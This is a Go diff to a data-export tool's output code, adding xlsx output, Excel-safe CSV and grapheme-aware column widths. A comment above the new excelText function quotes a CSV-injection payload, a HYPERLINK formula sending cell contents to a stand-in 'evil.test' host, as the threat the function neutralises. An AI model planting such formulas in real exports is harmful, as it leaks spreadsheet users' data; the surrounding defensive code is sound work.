@@ -3,6 +3,7 @@ package main
 import (
 	"bufio"
 	"bytes"
+	"cmp"
 	"encoding/csv"
 	"encoding/json"
 	"errors"
@@ -15,6 +16,7 @@ import (
 	"unicode/utf8"
 
 	"github.com/livestat/livestat"
+	"github.com/rivo/uniseg"
 )
 
 // Output formats.
@@ -22,29 +24,57 @@ const (
 	formatJSONL = "jsonl"
 	formatCSV   = "csv"
 	formatTable = "table"
+	formatXLSX  = "xlsx"
 )
+
+// outputOptions say how an output writes.
+type outputOptions struct {
+	format string
+	// excel makes CSV for Excel: a UTF-8 BOM, and text that Excel would
+	// run as a formula made plain text (see excelText).
+	excel bool
+	// name is the title of a sheet that has none of its own: the
+	// worksheet's name in a workbook.
+	name string
+}
 
 // output writes rows in one format. Rows are buffered within a page and
 // flushed when the page ends, so output appears as pages arrive and memory
-// does not grow with the number of rows.
+// does not grow with the number of rows. A workbook (xlsx) is written
+// when the output is closed.
 type output struct {
 	w      *bufio.Writer
+	opts   outputOptions
 	format string
 	prog   *progress
 	csv    *csv.Writer
-	enc    bytes.Buffer // scratch for one row's JSON
-	rows   int          // rows handed to the writer so far
+	// csvHeader is the header written: the first sheet's fields, or
+	// those csvColumns set (csvUnion), which every sheet's rows fill in.
+	csvHeader []string
+	csvUnion  bool
+	book      *workbook
+	enc       bytes.Buffer // scratch for one row's JSON
+	rows      int          // rows handed to the writer so far
 	// flushed is the number of rows the destination took: rows counts
 	// only once they were flushed without error.
 	flushed int
 	pages   int
-	footer  bool // write a row count at the end (tables)
+	// tables is the number of tables begun, tableRows the rows of the
+	// current one: each ends with its row count.
+	tables, tableRows int
+	err               error // of setting up the output
 }
 
-func newOutput(w io.Writer, format string, prog *progress) *output {
-	o := &output{w: bufio.NewWriterSize(destination{w}, 64<<10), format: format, prog: prog}
-	if format == formatCSV {
+func newOutput(w io.Writer, opts outputOptions, prog *progress) *output {
+	o := &output{w: bufio.NewWriterSize(destination{w}, 64<<10), opts: opts, format: opts.format, prog: prog}
+	switch opts.format {
+	case formatCSV:
+		if opts.excel {
+			o.w.WriteString("\uFEFF") // Excel reads UTF-8 only after a BOM
+		}
 		o.csv = csv.NewWriter(o.w)
+	case formatXLSX:
+		o.book, o.err = newWorkbook()
 	}
 	return o
 }
@@ -70,27 +100,58 @@ func (o *output) flush() error {
 	if err := o.w.Flush(); err != nil {
 		return err
 	}
-	o.flushed = o.rows
+	if o.book == nil {
+		o.flushed = o.rows
+	}
 	return nil
 }
 
 // close ends the output after the last page.
 func (o *output) close() error {
 	o.prog.clear() // the footer must not land on the progress line
-	if o.footer {
-		noun := "rows"
-		if o.rows == 1 {
-			noun = "row"
-		}
-		fmt.Fprintf(o.w, "(%d %s)\n", o.rows, noun)
-	}
+	o.endTable()
 	if o.csv != nil {
 		o.csv.Flush()
 		if err := o.csv.Error(); err != nil {
 			return err
 		}
 	}
+	if o.book != nil {
+		if err := o.book.close(o.w); err != nil {
+			return err
+		}
+		if err := o.w.Flush(); err != nil {
+			return err
+		}
+		o.flushed = o.rows
+		return nil
+	}
 	return o.flush()
+}
+
+// csvColumns sets the CSV header of an output of several sheets with
+// different fields, before the first: fields are all their fields. It does
+// nothing in other formats.
+func (o *output) csvColumns(fields []string) {
+	if o.csv == nil || o.csvHeader != nil {
+		return
+	}
+	o.csvHeader, o.csvUnion = fields, true
+	if err := o.csv.Write(fields); err != nil && o.err == nil {
+		o.err = err
+	}
+}
+
+// endTable writes the row count of the current table, if any.
+func (o *output) endTable() {
+	if o.format != formatTable || o.tables == 0 {
+		return
+	}
+	noun := "rows"
+	if o.tableRows == 1 {
+		noun = "row"
+	}
+	fmt.Fprintf(o.w, "(%d %s)\n", o.tableRows, noun)
 }
 
 // destination is where output writes: its errors are writeErrors, told
@@ -125,26 +186,56 @@ type column[T any] struct {
 	value func(*T) string
 }
 
-// sheet describes how rows of type T are written: the CSV header after
-// kind (the API's field names, nested ones joined with '_'), and the table
-// columns. Rows of a sheet without kind (one list only, such as livings)
-// have no kind field or column.
+// sheet describes how rows of type T are written: the CSV and xlsx
+// header after kind (the API's field names, nested ones joined with '_'),
+// and the table columns. Rows of a sheet without kind (one list only, such
+// as livings) have no kind field or column.
 type sheet[T any] struct {
-	fields  []string
+	fields []string
+	// types are the fields that a workbook writes as times or shares.
+	types   map[string]fieldType
 	columns []column[T]
 	kind    func(*T) livestat.ViewerKind
 }
 
 // header writes what comes before the first row.
-func (s *sheet[T]) header(o *output) error {
+func (s *sheet[T]) header(o *output) error { return s.begin(o, "") }
+
+// begin starts a part of the output written with s: in a workbook, a
+// worksheet named title (the output's name if ""); on a terminal, a table
+// under title; in CSV the header, once: every sheet of one CSV output has
+// the same fields.
+func (s *sheet[T]) begin(o *output, title string) error {
+	if o.err != nil {
+		return o.err
+	}
+	head := s.fields
+	if s.kind != nil {
+		head = append([]string{"kind"}, s.fields...)
+	}
 	switch o.format {
 	case formatCSV:
-		if s.kind == nil {
-			return o.csv.Write(s.fields)
+		if o.csvHeader != nil {
+			return nil
 		}
-		return o.csv.Write(append([]string{"kind"}, s.fields...))
+		o.csvHeader = head
+		return o.csv.Write(head)
+	case formatXLSX:
+		types := make([]fieldType, len(head))
+		for i, f := range head {
+			types[i] = s.types[f]
+		}
+		return o.book.begin(cmp.Or(title, o.opts.name), head, types)
 	case formatTable:
-		o.footer = true
+		if o.tables > 0 {
+			o.endTable()
+			o.w.WriteByte('\n')
+		}
+		o.tables++
+		o.tableRows = 0
+		if title != "" {
+			fmt.Fprintln(o.w, fit(title, displayWidth(title), false))
+		}
 		cells := make([]string, len(s.columns))
 		for i, c := range s.columns {
 			cells[i] = fit(c.title, c.width, c.right)
@@ -164,27 +255,44 @@ func (s *sheet[T]) row(o *output, r *T) error {
 	}
 	switch o.format {
 	case formatTable:
+		o.tableRows++
 		cells := make([]string, len(s.columns))
 		for i, c := range s.columns {
 			cells[i] = fit(c.value(r), c.width, c.right)
 		}
 		_, err := fmt.Fprintln(o.w, strings.TrimRight(strings.Join(cells, "  "), " "))
 		return err
-	case formatCSV:
+	case formatCSV, formatXLSX:
 		obj, err := o.rowJSON(r)
 		if err != nil {
 			return err
 		}
-		flat := make(map[string]string, len(s.fields))
+		flat := make(map[string]any, len(s.fields))
 		if err := flatten("", obj, flat); err != nil {
 			return err
 		}
-		rec := make([]string, 0, len(s.fields)+1)
+		vals := make([]any, 0, len(s.fields)+1)
 		if s.kind != nil {
-			rec = append(rec, string(kind))
+			vals = append(vals, string(kind))
 		}
 		for _, f := range s.fields {
-			rec = append(rec, flat[f])
+			vals = append(vals, flat[f])
+		}
+		if o.book != nil {
+			return o.book.add(vals)
+		}
+		if o.csvUnion {
+			vals = vals[:0]
+			for _, f := range o.csvHeader {
+				vals = append(vals, flat[f])
+			}
+		}
+		rec := make([]string, len(vals))
+		for i, v := range vals {
+			rec[i] = cell(v)
+			if _, text := v.(string); text && o.opts.excel {
+				rec[i] = excelText(rec[i])
+			}
 		}
 		return o.csv.Write(rec)
 	default:
@@ -209,6 +317,20 @@ func (s *sheet[T]) row(o *output, r *T) error {
 	}
 }
 
+// excelText keeps Excel from running s as a formula. A cell that starts
+// with = + - or @ is a formula to Excel (and to LibreOffice and Google
+// Sheets), tab and carriage return hide such a start, and the text of
+// these cells comes from outsiders: a viewer's nickname such as
+// =HYPERLINK("http://evil.test/?"&A1,"click") would run in the school's
+// spreadsheet. A leading ' makes Excel show the rest as text (OWASP's
+// advice for CSV injection). Numbers are not text and keep their sign.
+func excelText(s string) string {
+	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
+		return "'" + s
+	}
+	return s
+}
+
 // rowJSON encodes r with the API's field names and values, without
 // escaping HTML characters (URLs stay readable). The result is valid until
 // the next call.
@@ -226,9 +348,9 @@ func (o *output) rowJSON(r any) ([]byte, error) {
 	return b, nil
 }
 
-// flatten turns a JSON object into CSV cells: nested objects become
-// parent_child, lists are joined with ';', null is empty.
-func flatten(prefix string, obj []byte, dst map[string]string) error {
+// flatten turns a JSON object into the values of cells: nested objects
+// become parent_child; numbers are json.Numbers.
+func flatten(prefix string, obj []byte, dst map[string]any) error {
 	d := json.NewDecoder(bytes.NewReader(obj))
 	d.UseNumber()
 	var m map[string]any
@@ -239,7 +361,7 @@ func flatten(prefix string, obj []byte, dst map[string]string) error {
 	return nil
 }
 
-func flattenMap(prefix string, m map[string]any, dst map[string]string) {
+func flattenMap(prefix string, m map[string]any, dst map[string]any) {
 	for k, v := range m {
 		if prefix != "" {
 			k = prefix + "_" + k
@@ -248,10 +370,12 @@ func flattenMap(prefix string, m map[string]any, dst map[string]string) {
 			flattenMap(k, sub, dst)
 			continue
 		}
-		dst[k] = cell(v)
+		dst[k] = v
 	}
 }
 
+// cell is the CSV cell of a JSON value: lists are joined with ';', null
+// is empty.
 func cell(v any) string {
 	switch v := v.(type) {
 	case nil:
@@ -329,6 +453,18 @@ func (p *progress) update(pages, rows, total int) {
 	p.drawn = true
 }
 
+// counter is an attendance.Options.Progress that shows "done of total
+// what"; nil on a nil *progress.
+func (p *progress) counter(what string) func(done, total int) {
+	if p == nil {
+		return nil
+	}
+	return func(done, total int) {
+		fmt.Fprintf(p.w, "\r\x1b[K%s: %d of %d %s", p.name, done, total, what)
+		p.drawn = true
+	}
+}
+
 func (p *progress) clear() {
 	if p == nil || !p.drawn {
 		return
@@ -375,8 +511,11 @@ func joinInts(ids []int64, sep string) string {
 	return strings.Join(parts, sep)
 }
 
-// fit pads or cuts s to width terminal columns. Control characters are
-// replaced, so that a nickname cannot send escape sequences to a terminal.
+// fit pads or cuts s to width terminal columns. Widths are those of
+// grapheme clusters (uniseg): a Chinese character or an emoji, also a ZWJ
+// sequence or a flag, takes two columns, a combining accent none. Control
+// characters are replaced, so that a nickname cannot send escape sequences
+// to a terminal.
 func fit(s string, width int, right bool) string {
 	s = strings.Map(func(r rune) rune {
 		if unicode.IsControl(r) || r == utf8.RuneError {
@@ -388,13 +527,15 @@ func fit(s string, width int, right bool) string {
 	if w > width {
 		var b strings.Builder
 		used := 0
-		for _, r := range s {
-			rw := runeWidth(r)
-			if used+rw > width-1 {
+		for rest, state := s, -1; rest != ""; {
+			var g string
+			var gw int
+			g, rest, gw, state = uniseg.FirstGraphemeClusterInString(rest, state)
+			if used+gw > width-1 {
 				break
 			}
-			b.WriteRune(r)
-			used += rw
+			b.WriteString(g)
+			used += gw
 		}
 		b.WriteString("…")
 		s, w = b.String(), used+1
@@ -406,27 +547,5 @@ func fit(s string, width int, right bool) string {
 	return s + pad
 }
 
-func displayWidth(s string) int {
-	n := 0
-	for _, r := range s {
-		n += runeWidth(r)
-	}
-	return n
-}
-
-// runeWidth is the number of terminal columns r takes: 2 for East Asian
-// wide characters (CJK, Hangul, full-width forms, most emoji), 0 for
-// combining marks, 1 otherwise.
-func runeWidth(r rune) int {
-	switch {
-	case unicode.Is(unicode.Mn, r) || unicode.Is(unicode.Me, r) || r == 0x200B:
-		return 0
-	case r >= 0x1100 && r <= 0x115F, r >= 0x2E80 && r <= 0x303E, r >= 0x3041 && r <= 0x33FF,
-		r >= 0x3400 && r <= 0x4DBF, r >= 0x4E00 && r <= 0x9FFF, r >= 0xA000 && r <= 0xA4CF,
-		r >= 0xAC00 && r <= 0xD7A3, r >= 0xF900 && r <= 0xFAFF, r >= 0xFE30 && r <= 0xFE4F,
-		r >= 0xFF00 && r <= 0xFF60, r >= 0xFFE0 && r <= 0xFFE6, r >= 0x1F300 && r <= 0x1F64F,
-		r >= 0x1F900 && r <= 0x1F9FF, r >= 0x20000 && r <= 0x3FFFD:
-		return 2
-	}
-	return 1
-}
+// displayWidth is the number of terminal columns s takes.
+func displayWidth(s string) int { return uniseg.StringWidth(s) }
